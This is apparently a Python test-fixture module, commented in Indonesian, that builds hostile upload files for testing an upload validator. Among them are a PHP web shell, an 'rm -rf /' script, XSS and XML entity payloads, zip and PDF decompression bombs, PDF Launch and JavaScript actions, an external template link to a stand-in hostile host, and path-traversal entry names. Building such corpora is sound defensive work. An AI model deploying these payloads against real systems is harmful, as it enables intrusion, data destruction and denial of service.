"""Hostile files, built here byte by byte: what each is, and what has to become of it.

Small in bytes, whatever they claim or unpack to. Nothing of them is taken from elsewhere.
"""

import base64
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

import pikepdf
from PIL import Image, PngImagePlugin

from inti.unggahan import DOCX, JPEG, PDF, PNG, XLSX

EICAR = base64.b64decode(
    "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo="
)
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TIPE = "application/vnd.openxmlformats-officedocument"
ENTITAS = b'<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'


@dataclass(frozen=True)
class Jahat:
    """One file: its kind, the name it comes under, its bytes, and the verdict.

    `tipe` is what it is taken for, if it does no harm as that; otherwise `sebut` is a word of the
    reason that it is refused with. `wakil`: stands for its class where all would take too long.
    """

    jenis: str
    nama: str
    isi: bytes
    sebut: str = ""
    tipe: str = ""
    wakil: bool = False


# --- Pictures -----------------------------------------------------------------------------


def gambar(bentuk="PNG", **simpan):
    keluaran = io.BytesIO()
    Image.new("RGB", (4, 4)).save(keluaran, bentuk, **simpan)
    return keluaran.getvalue()


def potongan_png(kunci, isi):
    sidik = struct.pack(">I", zlib.crc32(kunci + isi))
    return struct.pack(">I", len(isi)) + kunci + isi + sidik


def png(lebar=4, tinggi=4, *, tengah=b"", isi=None):
    """Of any declared size, whatever it holds."""
    kepala = struct.pack(">IIBBBBB", lebar, tinggi, 8, 0, 0, 0, 0)
    isi = zlib.compress(b"\0" * (lebar + 1) * tinggi) if isi is None else isi
    return (
        b"\x89PNG\r\n\x1a\n"
        + potongan_png(b"IHDR", kepala)
        + tengah
        + potongan_png(b"IDAT", isi)
        + potongan_png(b"IEND", b"")
    )


def png_bercatatan():
    catatan = PngImagePlugin.PngInfo()
    catatan.add_text("Comment", "<script>alert(1)</script>")
    return gambar(pnginfo=catatan)


# --- Archives -----------------------------------------------------------------------------


def arsip(anggota, cara=zipfile.ZIP_DEFLATED):
    keluaran = io.BytesIO()
    with zipfile.ZipFile(keluaran, "w", cara) as berkas:
        for nama, isi in anggota.items():
            berkas.writestr(nama, isi)
    return keluaran.getvalue()


def docx(tambahan=None, **sifat):
    return arsip({"word/document.xml": "<w:document/>"} | (tambahan or {}), **sifat)


def xlsx(tambahan=None):
    return arsip({"xl/workbook.xml": "<workbook/>"} | (tambahan or {}))


def kaitan(jenis, tujuan, mode="External"):
    """A relationship of a document to something else."""
    isi = (
        f'<Relationships><Relationship Id="r1" Type="{RELS}/{jenis}" Target="{tujuan}" '
        f'TargetMode="{mode}"/></Relationships>'
    )
    return {"word/_rels/document.xml.rels": isi}


def ditimpa(isi, cari, ganti):
    """The same archive with a name of the same length in it."""
    assert len(cari) == len(ganti)
    return isi.replace(cari, ganti)


def terkunci(isi):
    """The mark of encryption on every entry."""
    hasil = bytearray(isi)
    for tanda, tempat in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        mulai = hasil.find(tanda)
        while mulai >= 0:
            hasil[mulai + tempat] |= 1
            mulai = hasil.find(tanda, mulai + 4)
    return bytes(hasil)


def bertindih():
    """A directory whose entries all share the same bytes."""
    satu = docx({"xl/a.bin": zlib.compress(b"\0" * 500_000, 9)}, cara=zipfile.ZIP_STORED)
    akhir = satu.rfind(b"PK\x05\x06")
    mulai = struct.unpack("<I", satu[akhir + 16 : akhir + 20])[0]
    direktori = satu[mulai:akhir]
    terakhir = direktori[direktori.rfind(b"PK\x01\x02") :]
    banyak = 100
    ekor = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, 2 + banyak, 2 + banyak,
        len(direktori) + banyak * len(terakhir), mulai, 0,
    )  # fmt: skip
    return satu[:mulai] + direktori + terakhir * banyak + ekor


def berbohong():
    """A part that says it is small and is not."""
    isi = docx({"word/media/nol.xml": b"\0" * 3_000_000})
    return isi.replace(struct.pack("<I", 3_000_000), struct.pack("<I", 10))


def berbagian_rusak():
    """A part whose packed bytes are no packed bytes."""
    isi = bytearray(docx({"word/a.xml": bytes(range(256)) * 20}))
    mulai = isi.index(b"word/a.xml") + len(b"word/a.xml")
    isi[mulai : mulai + 20] = b"\xff" * 20
    return bytes(isi)


def bom(ukuran):
    return docx({f"word/media/{n}.xml": b"\0" * ukuran for n in range(4)})


def sarang(dalam):
    isi = b"isi"
    for _ in range(dalam):
        isi = arsip({"a.zip": isi})
    return isi


# --- PDF ----------------------------------------------------------------------------------


def pdf(**akar):
    keluaran = io.BytesIO()
    with pikepdf.new() as dokumen:
        dokumen.add_blank_page()
        for kunci, nilai in akar.items():
            dokumen.Root[f"/{kunci}"] = nilai
        dokumen.save(keluaran, static_id=True)
    return keluaran.getvalue()


def pdf_tautan(**isi):
    """A page with a link that holds `isi`."""
    keluaran = io.BytesIO()
    with pikepdf.new() as dokumen:
        halaman = dokumen.add_blank_page()
        tautan = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, **isi)
        halaman.obj.Annots = pikepdf.Array([tautan])
        dokumen.save(keluaran, static_id=True)
    return keluaran.getvalue()


def tindakan(jenis, **isi):
    return pdf_tautan(A=pikepdf.Dictionary(S=pikepdf.Name(f"/{jenis}"), **isi))


def pdf_berlampiran():
    keluaran = io.BytesIO()
    with pikepdf.new() as dokumen:
        dokumen.add_blank_page()
        dokumen.attachments["tersembunyi.exe"] = b"MZ"
        dokumen.save(keluaran, static_id=True)
    return keluaran.getvalue()


def pdf_terkunci(sandi):
    keluaran = io.BytesIO()
    with pikepdf.new() as dokumen:
        dokumen.add_blank_page()
        dokumen.save(keluaran, encryption=pikepdf.Encryption(owner="pemilik", user=sandi))
    return keluaran.getvalue()


def pdf_tanpa_halaman():
    keluaran = io.BytesIO()
    with pikepdf.new() as dokumen:
        dokumen.save(keluaran)
    return keluaran.getvalue()


def pdf_bom(ukuran, saringan=1):
    """An object inside a stream that unpacks to `ukuran` bytes, packed as often as said."""
    pemampat = zlib.compressobj(9)
    bagian = [pemampat.compress(b"1 0 ")]
    bagian += [pemampat.compress(b" " * 1_000_000) for _ in range(ukuran // 1_000_000)]
    isi = b"".join([*bagian, pemampat.compress(b" 77"), pemampat.flush()])
    for _ in range(saringan - 1):
        isi = zlib.compress(isi, 9)
    hasil, tempat = bytearray(b"%PDF-1.7\n"), []
    saring = b"[" + b"/FlateDecode " * saringan + b"]"
    kepala = b"<</Type/ObjStm/N 1/First 4/Length %d/Filter %s>>stream\n" % (len(isi), saring)
    for nomor, badan in enumerate(
        (
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/X 6 0 R>>",
            kepala + isi + b"\nendstream",
        ),
        start=1,
    ):
        tempat.append(len(hasil))
        hasil += b"%d 0 obj\n%s\nendobj\n" % (nomor, badan)
    awal = len(hasil)
    baris = [(0, 0, 0), *((1, n, 0) for n in tempat), (1, awal, 0), (2, 4, 0)]
    rujukan = b"".join(bytes([t]) + n.to_bytes(4, "big") + bytes([g]) for t, n, g in baris)
    hasil += (
        b"5 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream\n"
        b"endobj\nstartxref\n%d\n%%%%EOF\n" % (len(rujukan), rujukan, awal)
    )
    return bytes(hasil)


def pdf_dalam(lapis):
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * lapis + b"]" * lapis)


BUKAN, SKRIP, MAKRO = "bukan PDF", "skrip, lampiran tersembunyi", "memuat makro"


def _bukan_jenis_kita():
    """Nothing of ours, whatever it is called."""
    yield Jahat("kosong", "kosong.pdf", b"", "kosong", wakil=True)
    yield Jahat("nol semua", "nol.pdf", b"\0" * 4096, BUKAN)
    yield Jahat("eicar", "eicar.pdf", EICAR, BUKAN)
    yield Jahat("program windows", "surat.pdf", b"MZ\x90\0" + b"\0" * 200, BUKAN)
    yield Jahat("program linux", "surat.jpg", b"\x7fELF\x02\x01\x01" + b"\0" * 200, BUKAN)
    yield Jahat("skrip shell", "surat.png", b"#!/bin/sh\nrm -rf /\n", BUKAN)
    yield Jahat("php", "surat.php", b"<?php system($_GET['a']); ?>", BUKAN)
    yield Jahat("html", "halaman.html", b"<html><script>alert(1)</script>", BUKAN, wakil=True)
    yield Jahat("html bernama pdf", "halaman.pdf", b"<!DOCTYPE html><script>1</script>", BUKAN)
    yield Jahat("html bernama gambar", "halaman.png", b"<html><svg onload=alert(1)>", BUKAN)
    yield Jahat("html di depan pdf", "depan.pdf", b"<script>1</script>\n" + pdf(), BUKAN)
    yield Jahat("svg", "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="1"/>', BUKAN)
    yield Jahat("svg bernama png", "logo.png", b"<?xml version='1.0'?><svg onload='1'/>", BUKAN)
    yield Jahat("xml entitas", "data.xml", ENTITAS, BUKAN)
    yield Jahat("gif", "gambar.gif", gambar("GIF"), BUKAN)
    yield Jahat("bmp", "gambar.bmp", gambar("BMP"), BUKAN)
    yield Jahat("tiff", "gambar.tiff", gambar("TIFF"), BUKAN)
    yield Jahat("rtf", "surat.rtf", rb"{\rtf1{\object\objocx}}", BUKAN)
    yield Jahat("ole lama", "surat.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, BUKAN)
    yield Jahat("postscript", "surat.eps", b"%!PS-Adobe-3.0 EPSF\n(/etc/passwd) run", BUKAN)
    yield Jahat("pintasan", "surat.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, BUKAN)
    yield Jahat("gzip", "surat.gz", zlib.compress(b"x", wbits=31), BUKAN)
    yield Jahat("rar", "surat.rar", b"Rar!\x1a\x07\x01\0" + b"\0" * 20, BUKAN)
    yield Jahat("7z", "surat.7z", b"7z\xbc\xaf\x27\x1c\0\x04" + b"\0" * 20, BUKAN)
    yield Jahat("zip biasa", "surat.zip", arsip({"a.txt": "x"}), BUKAN)
    yield Jahat("zip bernama docx", "surat.docx", arsip({"a.txt": "x"}), BUKAN)
    yield Jahat("jar", "surat.jar", arsip({"META-INF/MANIFEST.MF": "Main-Class: a"}), BUKAN)
    yield Jahat("zip bersarang", "sarang.zip", sarang(8), BUKAN)
    yield Jahat("zip terpotong", "surat.docx", docx()[:-10], BUKAN)
    yield Jahat("direktori raksasa", "isi.docx", docx() + b"PK\x01\x02" * 50_000, BUKAN)


def _bukan_menurut_namanya():
    """One thing by its name and another by its bytes, or two things at once."""
    yield Jahat("png bernama pdf", "surat.pdf", gambar(), "tidak sesuai", wakil=True)
    yield Jahat("pdf bernama docx", "surat.docx", pdf(), "tidak sesuai")
    yield Jahat("pdf bernama exe", "surat.pdf.exe", pdf(), "tidak sesuai")
    yield Jahat("xlsx bernama docx", "daftar.docx", xlsx(), "tidak sesuai")
    yield Jahat("nama nul", "surat.pdf\0.exe", pdf(), "tidak sesuai")
    yield Jahat("nama terbalik", "surat\u202efdp.exe", pdf(), "tidak sesuai")
    yield Jahat("pdf dan zip", "dua.pdf", pdf() + arsip({"a.exe": "MZ"}), "arsip ZIP", wakil=True)
    yield Jahat("gambar dan zip", "dua.png", gambar() + arsip({"a.js": "1"}), "arsip ZIP")
    yield Jahat("jpeg dan jar", "dua.jpg", gambar("JPEG") + arsip({"A.class": "1"}), "arsip ZIP")


def _gambar():
    """Pictures that are broken, too large, or carry words."""
    yield Jahat("png terpotong", "foto.png", gambar()[:40], "gambar rusak", wakil=True)
    yield Jahat("jpeg terpotong", "foto.jpg", gambar("JPEG")[:200], "gambar rusak")
    yield Jahat("piksel sejuta", "foto.png", png(60_000, 60_000, isi=b"x"), "gambar terlalu besar")
    yield Jahat("piksel banyak", "foto.png", png(9_000, 9_000, isi=b"x"), "gambar terlalu besar")
    yield Jahat("png nol piksel", "foto.png", png(0, 0, isi=b""), "gambar rusak")
    catatan = potongan_png(b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 20_000_000, 9))
    yield Jahat("png catatan bom", "foto.png", png(tengah=catatan), "gambar rusak")
    yield Jahat("png catatan skrip", "foto.png", png_bercatatan(), tipe=PNG)
    yield Jahat("jpeg catatan php", "foto.jpg", gambar("JPEG", comment=b"<?php 1 ?>"), tipe=JPEG)


def _pdf():
    """PDFs that act, hide, lock or explode."""
    yield Jahat("pdf rusak", "rusak.pdf", b"%PDF-1.7 rusak", "rusak")
    yield Jahat("pdf javascript", "aksi.pdf", tindakan("JavaScript", JS="1"), SKRIP, wakil=True)
    samar = tindakan("JavaScript", JS="1").replace(b"/JavaScript", b"/J#61vaScript")
    yield Jahat("pdf javascript samar", "aksi.pdf", samar, SKRIP)
    yield Jahat("pdf launch", "aksi.pdf", tindakan("Launch", F="cmd.exe"), SKRIP)
    yield Jahat("pdf kirim formulir", "aksi.pdf", tindakan("SubmitForm", F="http://x"), SKRIP)
    yield Jahat("pdf berbagi", "aksi.pdf", tindakan("GoToR", F=r"\\\\jahat\\x"), SKRIP)
    yield Jahat("pdf xfa", "xfa.pdf", pdf(AcroForm=pikepdf.Dictionary(XFA=[])), SKRIP)
    yield Jahat("pdf richmedia", "flash.pdf", pdf_tautan(RichMediaContent=1), SKRIP)
    yield Jahat("pdf berlampiran", "lampir.pdf", pdf_berlampiran(), SKRIP)
    yield Jahat("pdf terkunci", "kunci.pdf", pdf_terkunci("rahasia"), "terkunci", wakil=True)
    yield Jahat("pdf dibatasi", "batas.pdf", pdf_terkunci(""), tipe=PDF)
    yield Jahat("pdf tanpa halaman", "nol.pdf", pdf_tanpa_halaman(), "rusak")
    yield Jahat("pdf bersarang", "dalam.pdf", pdf_dalam(20_000), "rusak")
    yield Jahat("pdf bom", "bom.pdf", pdf_bom(90_000_000), "terlalu besar", wakil=True)
    yield Jahat("pdf bom berlapis", "bom.pdf", pdf_bom(90_000_000, 3), "terlalu besar")
    yield Jahat("pdf saringan", "saring.pdf", pdf_bom(1_000_000, 20), "terlalu besar")


def _dokumen_aktif():
    """Office files with what runs, or with what lies outside."""
    yield Jahat("docx makro", "makro.docx", docx({"word/vbaProject.bin": "x"}), MAKRO, wakil=True)
    deklarasi = f'<Types><Override ContentType="{TIPE}.macroEnabled.main+xml"/></Types>'
    yield Jahat("docm", "makro.docx", docx({"[Content_Types].xml": deklarasi}), MAKRO)
    yield Jahat("docm utf-16", "m.docx", docx({"[Content_Types].xml": deklarasi.encode("utf-16")}), MAKRO)  # fmt: skip  # noqa: E501
    yield Jahat("docx activex", "x.docx", docx({"word/activeX/activeX1.xml": "x"}), MAKRO)
    yield Jahat("docx ole", "x.docx", docx({"word/embeddings/oleObject1.bin": "x"}), MAKRO)
    yield Jahat("xlsx makro lama", "x.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "x"}), MAKRO)
    yield Jahat("docx program", "x.docx", docx({"word/media/a.exe": "MZ"}), MAKRO)
    yield Jahat("docx berarsip", "x.docx", docx({"word/media/a.zip": sarang(3)}), MAKRO)
    yield Jahat("docx html", "x.docx", docx({"word/afchunk.html": "<script>"}), MAKRO)
    templat = docx(kaitan("attachedTemplate", "http://jahat.example/a.dotm"))
    yield Jahat("docx templat luar", "luar.docx", templat, "dari luar", wakil=True)
    yield Jahat("docx objek luar", "luar.docx", docx(kaitan("oleObject", "http://x")), "dari luar")
    samar = docx(kaitan("oleObject", "http://x", mode="&#69;xternal"))
    yield Jahat("docx objek samar", "luar.docx", samar, "dari luar")
    yield Jahat("docx gambar smb", "luar.docx", docx(kaitan("image", r"\\x\a.png")), "dari luar")
    yield Jahat("docx tautan", "tautan.docx", docx(kaitan("hyperlink", "http://x")), tipe=DOCX)


def _dokumen_rusak():
    """Office files with entities, locks, names that lead out, and bombs."""
    yield Jahat("docx entitas", "xml.docx", docx({"word/a.xml": ENTITAS}), "XML")
    yield Jahat("xlsx entitas", "xml.xlsx", xlsx({"xl/a.xml": ENTITAS}), "XML")
    yield Jahat("docx terkunci", "kunci.docx", terkunci(docx()), "terkunci")
    yield Jahat("docx bzip2", "x.docx", docx(cara=zipfile.ZIP_BZIP2), "tidak wajar")
    for jenis, nama in (
        ("naik", "../../etc/cron.d/a"),
        ("mutlak", "/etc/passwd"),
        ("windows", "..\\..\\a.txt"),
        ("cakram", "C:/a.txt"),
        ("kendali", "word/a\r\nb.txt"),
    ):
        yield Jahat(f"docx nama {jenis}", "nama.docx", docx({nama: "x"}), "tidak wajar")
    nul = ditimpa(docx({"word/aXb.txt": "x"}), b"word/aXb.txt", b"word/a\0b.txt")
    yield Jahat("docx nama nul", "nama.docx", nul, "tidak wajar")
    yield Jahat("docx bom", "bom.docx", bom(12_000_000), "terlalu besar", wakil=True)
    banyak = docx({f"word/{n}.txt": "" for n in range(2_100)})
    yield Jahat("docx banyak anggota", "bom.docx", banyak, "terlalu besar")
    yield Jahat("docx bertindih", "bom.docx", bertindih(), "terlalu besar")
    yield Jahat("docx berbohong", "bohong.docx", berbohong(), "rusak")
    besar = docx({f"a/{n}.rels": b" " * 3_000_000 for n in range(2)})
    yield Jahat("docx kaitan bom", "bom.docx", besar, "terlalu besar")
    yield Jahat("docx bagian rusak", "rusak.docx", berbagian_rusak(), "rusak")
    yield Jahat("xlsx rumus", "rumus.xlsx", xlsx({"xl/worksheets/sheet1.xml": "<f>cmd|x</f>"}), tipe=XLSX)  # fmt: skip  # noqa: E501


KELOMPOK = (
    _bukan_jenis_kita, _bukan_menurut_namanya, _gambar, _pdf, _dokumen_aktif, _dokumen_rusak,
)  # fmt: skip
KORPUS = tuple(satu for kelompok in KELOMPOK for satu in kelompok())
WAKIL = tuple(j for j in KORPUS if j.wakil)
